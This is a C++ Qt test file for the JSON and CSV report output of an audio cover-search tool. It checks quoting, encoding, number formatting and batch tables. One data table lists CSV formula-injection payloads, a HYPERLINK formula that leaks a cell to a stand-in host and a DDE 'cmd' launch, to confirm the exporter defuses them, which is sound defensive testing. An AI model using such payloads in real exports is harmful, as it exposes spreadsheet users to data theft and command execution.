// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/report/batch_report.h"
#include "core/report/csv.h"
#include "core/report/index_report.h"
#include "core/report/search_report.h"
#include "core/search/session.h"
#include "tests/core/report/csv_reader.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QtTest>

#include <fstream>

using namespace coverscope;
using test::parseCsv;

namespace {

// As a script would see it: written and read back.
QJsonObject readBack(const QJsonObject& json)
{
    return QJsonDocument::fromJson(QJsonDocument(json).toJson()).object();
}

std::shared_ptr<search::Query> makeQuery()
{
    auto query = std::make_shared<search::Query>();
    query->file = std::filesystem::path("/clips/caf\xe9, \"live\".wav"); // not valid UTF-8
    query->range = {5.0, 35.0};
    query->chunks.resize(2);
    query->model.name = QStringLiteral("First");
    query->model.hash = "0123abcd";
    query->decodeMilliseconds = 12.345;
    query->cqtMilliseconds = 3.0;
    query->inferenceMilliseconds = 4.0;
    return query;
}

library::Snapshot makeSnapshot()
{
    library::Snapshot snapshot;
    snapshot.roots.push_back({catalogue::RootId{1}, "/music"});
    catalogue::Track track;
    track.id = TrackId{7};
    track.root = catalogue::RootId{1};
    track.relativePath = "a/b.flac";
    track.title = QStringLiteral("Zwölf, “Acht”");
    track.artist = QStringLiteral("The \"X\"");
    snapshot.tracks.push_back(track);
    snapshot.indexOfTrack.emplace(7, 0);
    return snapshot;
}

search::SearchResult makeResult()
{
    base::Matrix similarities(2, 3);
    similarities.values = {0.1F, 0.75F, 0.2F, 0.3F, 0.25F, 0.5F};
    search::Match first;
    first.rank = 1;
    first.track = TrackId{7};
    first.evidence = std::make_shared<const search::Evidence>(search::makeEvidence(
        similarities, {{5.0, 25.0}, {15.0, 35.0}}, {{0.0, 20.0}, {10.0, 30.0}, {20.0, 40.0}}));
    first.score = first.evidence->maxMean.score;
    first.probability = 0.875;
    first.keyShift = -2;
    first.tempoRatio = 1.0625;
    search::Match second;
    second.rank = 2;
    second.track = TrackId{99}; // gone from the library meanwhile
    second.score = 0.25F;
    search::SearchResult result;
    result.query = makeQuery();
    result.matches = {first, second};
    result.verdict = search::Verdict::Possible;
    result.usedGraph = true;
    result.candidateTracks = 212;
    result.searchMilliseconds = 7.5;
    result.alignmentMilliseconds = 2.25;
    return result;
}

} // namespace

class ReportTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void searchJsonHasWhatIsPromised();
    void unknownValuesAreNull();
    void chunksOfALongerQueryAreTheRightWayRound();
    void compareJsonCarriesTheHeatmap();
    void indexJsonNamesSkippedFiles();
    void fieldsAreQuotedWhereTheyMustBe();
    void formulasAreDefusedAndNumbersAreNot_data();
    void formulasAreDefusedAndNumbersAreNot();
    void pathsLeadBackToTheFile_data();
    void pathsLeadBackToTheFile();
    void spreadsheetsAreToldTheEncoding();
    void numbersHaveAPointAndNoTail();
    void resultTableReadsBack();
    void deletedFilesComeLast();
    void heatmapReadsBack();
    void batchGivesEveryClipAStatus();
    void batchSaysWhatWasDecided();
};

void ReportTest::searchJsonHasWhatIsPromised()
{
    const QJsonObject json = readBack(report::searchJson(makeResult(), makeSnapshot()));
    const QJsonObject query = json[QStringLiteral("query")].toObject();
    QCOMPARE(query[QStringLiteral("file")].toString(), QStringLiteral("/clips/caf\uFFFD, \"live\".wav"));
    QCOMPARE(query[QStringLiteral("duration")].toDouble(), 30.0);
    QCOMPARE(query[QStringLiteral("chunks")].toInt(), 2);
    QCOMPARE(json[QStringLiteral("model")].toObject()[QStringLiteral("name")].toString(),
             QStringLiteral("First"));
    QCOMPARE(json[QStringLiteral("model")].toObject()[QStringLiteral("hash")].toString(),
             QStringLiteral("0123abcd"));
    QCOMPARE(json[QStringLiteral("mode")].toString(), QStringLiteral("hnsw"));
    QCOMPARE(json[QStringLiteral("candidates")].toInt(), 212);
    QCOMPARE(json[QStringLiteral("verdict")].toString(), QStringLiteral("possible"));
    QCOMPARE(json[QStringLiteral("threshold")].toDouble(), makeResult().thresholds.match);
    QCOMPARE(json[QStringLiteral("possible_threshold")].toDouble(), makeResult().thresholds.possible);
    const QJsonObject timing = json[QStringLiteral("timing_ms")].toObject();
    QCOMPARE(timing.keys(),
             (QStringList{QStringLiteral("alignment"), QStringLiteral("cqt"), QStringLiteral("decode"),
                          QStringLiteral("inference"), QStringLiteral("search")}));
    QCOMPARE(timing[QStringLiteral("decode")].toDouble(), 12.35);

    const QJsonObject match = json[QStringLiteral("matches")].toArray()[0].toObject();
    QCOMPARE(match[QStringLiteral("rank")].toInt(), 1);
    QCOMPARE(match[QStringLiteral("file")].toString(), QStringLiteral("/music/a/b.flac"));
    QCOMPARE(match[QStringLiteral("title")].toString(), QStringLiteral("Zwölf, “Acht”"));
    QCOMPARE(match[QStringLiteral("artist")].toString(), QStringLiteral("The \"X\""));
    QCOMPARE(match[QStringLiteral("name")].toString(), QStringLiteral("Zwölf, “Acht” – The \"X\""));
    QCOMPARE(match[QStringLiteral("score")].toDouble(), 0.625);
    QCOMPARE(match[QStringLiteral("probability")].toDouble(), 0.875);
    QCOMPARE(match[QStringLiteral("key_shift")].toInt(), -2);
    QCOMPARE(match[QStringLiteral("tempo_ratio")].toDouble(), 1.0625);
    const QJsonArray chunks = match[QStringLiteral("chunks")].toArray();
    QCOMPARE(chunks.size(), 2);
    QCOMPARE(chunks[0].toObject()[QStringLiteral("query_chunk")].toInt(), 0);
    QCOMPARE(chunks[0].toObject()[QStringLiteral("track_chunk")].toInt(), 1);
    QCOMPARE(chunks[0].toObject()[QStringLiteral("similarity")].toDouble(), 0.75);
    QCOMPARE(chunks[1].toObject()[QStringLiteral("track_chunk")].toInt(), 2);
    const QJsonObject segment = match[QStringLiteral("segment")].toObject();
    QCOMPARE(segment[QStringLiteral("query_start")].toDouble(), 5.0);
    QCOMPARE(segment[QStringLiteral("query_end")].toDouble(), 35.0);
    QVERIFY(segment[QStringLiteral("track_start")].toDouble() <
            segment[QStringLiteral("track_end")].toDouble());
}

void ReportTest::unknownValuesAreNull()
{
    const QJsonObject json = readBack(report::searchJson(makeResult(), makeSnapshot()));
    const QJsonObject match = json[QStringLiteral("matches")].toArray()[1].toObject();
    for (const char* key : {"file", "title", "artist", "chunks", "segment", "key_shift", "tempo_ratio"}) {
        QVERIFY2(match.contains(QLatin1String(key)), key);
        QVERIFY2(match[QLatin1String(key)].isNull(), key);
    }
    search::SearchResult nothing;
    nothing.query = makeQuery();
    const QJsonObject empty = readBack(report::searchJson(nothing, makeSnapshot()));
    QVERIFY(empty[QStringLiteral("matches")].isArray());
    QCOMPARE(empty[QStringLiteral("verdict")].toString(), QStringLiteral("no match"));
    QCOMPARE(empty[QStringLiteral("mode")].toString(), QStringLiteral("exact"));
}

void ReportTest::chunksOfALongerQueryAreTheRightWayRound()
{
    search::SearchResult result = makeResult();
    base::Matrix similarities(3, 1); // the track has one chunk, the query three
    similarities.values = {0.1F, 0.2F, 0.5F};
    result.matches[0].evidence = std::make_shared<const search::Evidence>(
        search::makeEvidence(similarities, {{0.0, 20.0}, {10.0, 30.0}, {20.0, 40.0}}, {{0.0, 18.0}}));
    const QJsonObject json = readBack(report::searchJson(result, makeSnapshot()));
    const QJsonArray chunks =
        json[QStringLiteral("matches")].toArray()[0].toObject()[QStringLiteral("chunks")].toArray();
    QCOMPARE(chunks.size(), 1);
    QCOMPARE(chunks[0].toObject()[QStringLiteral("query_chunk")].toInt(), 2);
    QCOMPARE(chunks[0].toObject()[QStringLiteral("track_chunk")].toInt(), 0);
}

void ReportTest::compareJsonCarriesTheHeatmap()
{
    const auto query = makeQuery();
    const search::SearchResult result = makeResult();
    const QJsonObject json =
        readBack(report::compareJson(result.matches[0], *query, *query, result.thresholds));
    QCOMPARE(json[QStringLiteral("files")].toArray().size(), 2);
    QCOMPARE(json[QStringLiteral("score")].toDouble(), 0.625);
    QCOMPARE(json[QStringLiteral("verdict")].toString(), QStringLiteral("possible")); // 0.875
    QCOMPARE(readBack(report::compareJson(result.matches[0], *query, *query,
                                          search::Thresholds().withOwn(0.8)))[QStringLiteral("verdict")]
                 .toString(),
             QStringLiteral("match"));
    const QJsonObject heatmap = json[QStringLiteral("heatmap")].toObject();
    const QJsonArray rows = heatmap[QStringLiteral("similarities")].toArray();
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows[1].toArray().size(), 3);
    QCOMPARE(rows[1].toArray()[2].toDouble(), 0.5);
    QCOMPARE(heatmap[QStringLiteral("query_chunks")].toArray()[1].toArray()[0].toDouble(), 15.0);
    QCOMPARE(heatmap[QStringLiteral("track_chunks")].toArray()[2].toArray()[1].toDouble(), 40.0);
    const QJsonArray alignment = json[QStringLiteral("alignment")].toArray();
    QCOMPARE(static_cast<std::size_t>(alignment.size()), result.matches[0].evidence->path.size());
    QCOMPARE(alignment[0].toObject()[QStringLiteral("query_time")].toDouble(), 5.0);
    QCOMPARE(alignment[0].toObject()[QStringLiteral("track_time")].toDouble(), 10.0);
}

void ReportTest::indexJsonNamesSkippedFiles()
{
    library::IndexingReport run;
    run.indexed = 3;
    run.unchanged = 5;
    run.away = 1;
    run.seconds = 2.5;
    run.audioSeconds = 720.0;
    run.skipped.push_back(
        {"/m/\xff.mp3", {base::ErrorCode::EmptyFile, "/m/\xff.mp3", QStringLiteral("It is empty."), {}}});
    const QJsonObject json = readBack(report::indexJson(run));
    QCOMPARE(json[QStringLiteral("indexed")].toInt(), 3);
    QCOMPARE(json[QStringLiteral("unchanged")].toInt(), 5);
    QCOMPARE(json[QStringLiteral("away")].toInt(), 1);
    QCOMPARE(json[QStringLiteral("seconds")].toDouble(), 2.5);
    QCOMPARE(json[QStringLiteral("audio_seconds")].toDouble(), 720.0);
    QCOMPARE(json[QStringLiteral("cancelled")].toBool(true), false);
    const QJsonObject skipped = json[QStringLiteral("skipped")].toArray()[0].toObject();
    QCOMPARE(skipped[QStringLiteral("file")].toString(), QStringLiteral("/m/\uFFFD.mp3"));
    QCOMPARE(skipped[QStringLiteral("reason")].toString(), QStringLiteral("It is empty."));
}

void ReportTest::fieldsAreQuotedWhereTheyMustBe()
{
    QCOMPARE(report::csvRow({QStringLiteral("a"), QString(), QStringLiteral("b c")}),
             QByteArray("a,,b c\r\n"));
    QCOMPARE(report::csvRow({QStringLiteral("a,b"), QStringLiteral("say \"x\""), QStringLiteral("1\n2")}),
             QByteArray("\"a,b\",\"say \"\"x\"\"\",\"1\n2\"\r\n"));
    const QStringList nasty{QStringLiteral("\""), QStringLiteral(",,"), QStringLiteral("x\r\n"),
                            QStringLiteral("ü")};
    QCOMPARE(parseCsv(report::csvRow(nasty)).front(), nasty);
}

void ReportTest::formulasAreDefusedAndNumbersAreNot_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<bool>("isFormula");
    QTest::newRow("link") << "=HYPERLINK(\"http://x/?\"&A1,\"y\")" << true;
    QTest::newRow("sum") << "@SUM(1+1)" << true;
    QTest::newRow("plus") << "+1+cmd|' /C calc'!A0" << true;
    QTest::newRow("minus") << "-2+3" << true;
    QTest::newRow("a dash") << "- untitled -" << true;
    QTest::newRow("tab") << "\t=1+1" << true;
    QTest::newRow("line break") << "\r=1+1" << true;
    QTest::newRow("full width") << QStringLiteral("\uFF1D1+1") << true;
    QTest::newRow("telephone") << "+49 30 123" << true;
    QTest::newRow("key shift") << "-3" << false;
    QTest::newRow("signed") << "+3" << false;
    QTest::newRow("decimal") << "-0.25" << false;
    QTest::newRow("small") << "1e-05" << false;
    QTest::newRow("in the middle") << "a=b" << false;
    QTest::newRow("nothing") << "" << false;
}

void ReportTest::formulasAreDefusedAndNumbersAreNot()
{
    QFETCH(QString, field);
    QFETCH(bool, isFormula);
    const QString read = parseCsv(report::csvRow({QStringLiteral("x"), field})).front()[1];
    QCOMPARE(read, isFormula ? QLatin1Char('\'') + field : field);
}

void ReportTest::pathsLeadBackToTheFile_data()
{
    QTest::addColumn<QByteArray>("path");
    QTest::addColumn<QByteArray>("written");
    QTest::newRow("text") << QByteArray("/m/Caf\xC3\xA9.wav") << QByteArray("/m/Caf\xC3\xA9.wav");
    QTest::newRow("Latin-1") << QByteArray("/m/Caf\xE9.wav") << QByteArray("/m/Caf\xE9.wav");
    QTest::newRow("cut off") << QByteArray("/m/\xE3\x81") << QByteArray("/m/\xE3\x81");
    QTest::newRow("Shift-JIS") << QByteArray("/m/\x93\xFA\x96\x7B.wav")
                               << QByteArray("/m/\x93\xFA\x96\x7B.wav");
    QTest::newRow("beside others") << QByteArray("\xF0\x9F\x8E\xB5\xFF")
                                   << QByteArray("\xF0\x9F\x8E\xB5\xFF");
    QTest::newRow("with a comma") << QByteArray("/m/\xE9,b.wav") << QByteArray("\"/m/\xE9,b.wav\"");
    QTest::newRow("as a formula") << QByteArray("=1+1.wav") << QByteArray("./=1+1.wav");
}

void ReportTest::pathsLeadBackToTheFile()
{
    QFETCH(QByteArray, path);
    QFETCH(QByteArray, written);
    QCOMPARE(report::csvRow({report::csvPath(path.toStdString())}), written + "\r\n");
}

void ReportTest::spreadsheetsAreToldTheEncoding()
{
    QCOMPARE(report::forSpreadsheet("a,b\r\n"), QByteArray("\xEF\xBB\xBF"
                                                           "a,b\r\n"));
}

void ReportTest::numbersHaveAPointAndNoTail()
{
    const QLocale before;
    QLocale::setDefault(QLocale(QLocale::German));
    QCOMPARE(report::csvNumber(1234.5), QStringLiteral("1234.5"));
    QCOMPARE(report::csvNumber(2.0), QStringLiteral("2"));
    QCOMPARE(report::csvNumber(-0.00001), QStringLiteral("0"));
    QCOMPARE(report::csvNumber(0.123456, 3), QStringLiteral("0.123"));
    QCOMPARE(report::csvNumber(100.0, 0), QStringLiteral("100"));
    QLocale::setDefault(before);
}

void ReportTest::resultTableReadsBack()
{
    const auto records = parseCsv(report::resultTableCsv(makeResult(), makeSnapshot()));
    QCOMPARE(records.size(), std::size_t{3});
    for (const QStringList& record : records)
        QCOMPARE(record.size(), records[0].size());
    QCOMPARE(records[0][1], QStringLiteral("file"));
    QCOMPARE(records[1][1], QStringLiteral("/music/a/b.flac"));
    QCOMPARE(records[1][2], QStringLiteral("Zwölf, “Acht”"));
    QCOMPARE(records[1][3], QStringLiteral("The \"X\""));
    QCOMPARE(records[1][4].toDouble(), 0.625);
    QCOMPARE(records[2][0], QStringLiteral("2"));
    QVERIFY(records[2][1].isEmpty());
}

void ReportTest::deletedFilesComeLast()
{
    const QTemporaryDir folder;
    const std::filesystem::path root = folder.path().toStdString();
    library::Snapshot snapshot;
    snapshot.roots = {{catalogue::RootId{1}, root}, {catalogue::RootId{2}, root / "unplugged"}};
    search::SearchResult result;
    result.query = makeQuery();
    for (const int id : {1, 2, 3, 4}) {
        catalogue::Track track;
        track.id = TrackId{id};
        track.root = catalogue::RootId{id == 3 ? 2 : 1};
        track.relativePath = std::to_string(id) + ".wav";
        snapshot.indexOfTrack.emplace(id, snapshot.tracks.size());
        snapshot.tracks.push_back(track);
        search::Match match;
        match.rank = static_cast<std::size_t>(id);
        match.track = track.id;
        result.matches.push_back(match);
    }
    std::ofstream(root / "2.wav") << "x"; // 1 and 4 were deleted, 3 is on a drive that is away
    search::rankDeletedLast(result, snapshot);
    std::vector<int> order;
    for (std::size_t k = 0; k < result.matches.size(); ++k) {
        QCOMPARE(result.matches[k].rank, k + 1);
        order.push_back(static_cast<int>(result.matches[k].track));
    }
    QVERIFY(order == (std::vector<int>{2, 3, 1, 4}));
    const auto records = parseCsv(report::resultTableCsv(result, snapshot));
    const auto present = [&records](std::size_t row) {
        return records[row].at(records[0].indexOf(QLatin1String("present")));
    };
    QCOMPARE(present(1), QStringLiteral("yes"));
    QCOMPARE(present(2), QStringLiteral("no"));
    QCOMPARE(present(4), QStringLiteral("no"));
    const QJsonObject json = report::searchJson(result, snapshot);
    QVERIFY(json[QStringLiteral("matches")][0][QStringLiteral("present")].toBool(false));
    QVERIFY(!json[QStringLiteral("matches")][3][QStringLiteral("present")].toBool(true));
}

void ReportTest::heatmapReadsBack()
{
    const auto records = parseCsv(report::heatmapCsv(*makeResult().matches[0].evidence));
    QCOMPARE(records.size(), std::size_t{3});
    QCOMPARE(records[0].mid(1),
             (QStringList{QStringLiteral("0"), QStringLiteral("10"), QStringLiteral("20")}));
    QCOMPARE(records[2][0], QStringLiteral("15"));
    QVERIFY(std::abs(records[1][2].toDouble() - 0.75) < 1e-6);
    QVERIFY(std::abs(records[2][3].toDouble() - 0.5) < 1e-6);
}

void ReportTest::batchGivesEveryClipAStatus()
{
    catalogue::BatchClip found;
    found.file = "/clips/a.wav";
    found.status = catalogue::BatchStatus::Possible;
    found.region = base::TimeRange{1.5, 20.0};
    catalogue::BatchMatch first;
    first.rank = 1;
    first.file = "/music/a/b.flac";
    first.title = QStringLiteral("Zwölf, “Acht”");
    first.probability = 0.875;
    first.trackTimes = base::TimeRange{10.0, 38.25};
    first.keyShift = -2;
    catalogue::BatchMatch second;
    second.rank = 2;
    found.matches = {first, second};
    catalogue::BatchClip nothing;
    nothing.file = std::filesystem::path("/clips/caf\xe9, \"live\".wav"); // not valid UTF-8
    nothing.status = catalogue::BatchStatus::NoMatch;
    catalogue::BatchClip failed;
    failed.file = "/clips/x.mp3";
    failed.status = catalogue::BatchStatus::Failed;
    failed.problem = QStringLiteral("“x.mp3” is empty, sorry.");

    QByteArray csv = report::batchHeader();
    for (const auto& clip : {found, nothing, failed})
        csv += report::batchRows(clip);
    QVERIFY(csv.startsWith("clip,status,rank,file,title,artist,score,probability,query_start,query_end,"
                           "track_start,track_end,key_shift,tempo_ratio,problem,clip_start,clip_end,"
                           "present,verdict,note,name\r\n")); // scripts may count
    const auto records = parseCsv(csv);
    QCOMPARE(records.size(), std::size_t{5});
    for (const QStringList& record : records)
        QCOMPARE(record.size(), records[0].size());
    const auto cell = [&records](std::size_t row, const char* column) {
        return records[row].at(records[0].indexOf(QLatin1String(column)));
    };
    QCOMPARE(records[0].first(), QStringLiteral("clip"));
    QCOMPARE(cell(1, "status"), QStringLiteral("possible"));
    QCOMPARE(cell(1, "rank"), QStringLiteral("1"));
    QCOMPARE(cell(1, "title"), first.title);
    QCOMPARE(cell(1, "probability"), QStringLiteral("0.875"));
    QCOMPARE(cell(1, "query_start"), QString());
    QCOMPARE(cell(1, "track_end"), QStringLiteral("38.25"));
    QCOMPARE(cell(1, "key_shift"), QStringLiteral("-2"));
    QCOMPARE(cell(1, "clip_start"), QStringLiteral("1.5"));
    QCOMPARE(cell(2, "rank"), QStringLiteral("2"));
    QCOMPARE(cell(2, "clip"), QStringLiteral("/clips/a.wav"));
    QCOMPARE(cell(3, "status"), QStringLiteral("no match"));
    QCOMPARE(cell(3, "clip"), QStringLiteral("/clips/caf\uFFFD, \"live\".wav"));
    QCOMPARE(cell(4, "status"), QStringLiteral("failed"));
    QCOMPARE(cell(4, "problem"), failed.problem);
    QCOMPARE(cell(1, "name"), first.title);
    QCOMPARE(cell(1, "verdict"), QString());
}

void ReportTest::batchSaysWhatWasDecided()
{
    catalogue::BatchClip clip;
    clip.file = "/clips/a.wav";
    clip.status = catalogue::BatchStatus::Match;
    clip.searched = {5.0, 35.0};
    for (const char* hash : {"aa", "bb", "cc"}) {
        catalogue::BatchMatch match;
        match.file = std::string("/music/Help/") + hash + ".flac";
        match.title = QString::fromLatin1(hash);
        match.contentHash = hash;
        match.track = TrackId{static_cast<std::int64_t>(clip.matches.size()) + 1};
        clip.matches.push_back(match);
    }
    catalogue::VerdictRecord confirmed;
    confirmed.clip = {"c1", "/clips/a.wav", {5.0, 35.0}};
    confirmed.track.contentHash = "aa";
    confirmed.track.lastId = TrackId{1};
    confirmed.decision = catalogue::Decision::Confirmed;
    confirmed.note = QStringLiteral("=the refrain, \"live\"");
    catalogue::VerdictRecord elsewhere = confirmed; // of the same clip, another passage
    elsewhere.clip.region = {100.0, 130.0};
    elsewhere.track.contentHash = "cc";
    elsewhere.track.lastId = TrackId{3};
    const std::vector<catalogue::VerdictRecord> verdicts{confirmed, elsewhere};
    const auto records = parseCsv(report::batchHeader() + report::batchRows(clip, verdicts));
    const auto cell = [&records](std::size_t row, const char* column) {
        return records[row].at(records[0].indexOf(QLatin1String(column)));
    };
    QCOMPARE(cell(1, "verdict"), QStringLiteral("confirmed"));
    QCOMPARE(cell(1, "note"), QStringLiteral("'=the refrain, \"live\"")); // no formula
    QCOMPARE(cell(1, "name"), QStringLiteral("Help/aa"));
    QCOMPARE(cell(2, "verdict"), QString());
    QCOMPARE(cell(3, "verdict"), QString());
}

QTEST_GUILESS_MAIN(ReportTest)
#include "report_test.moc"
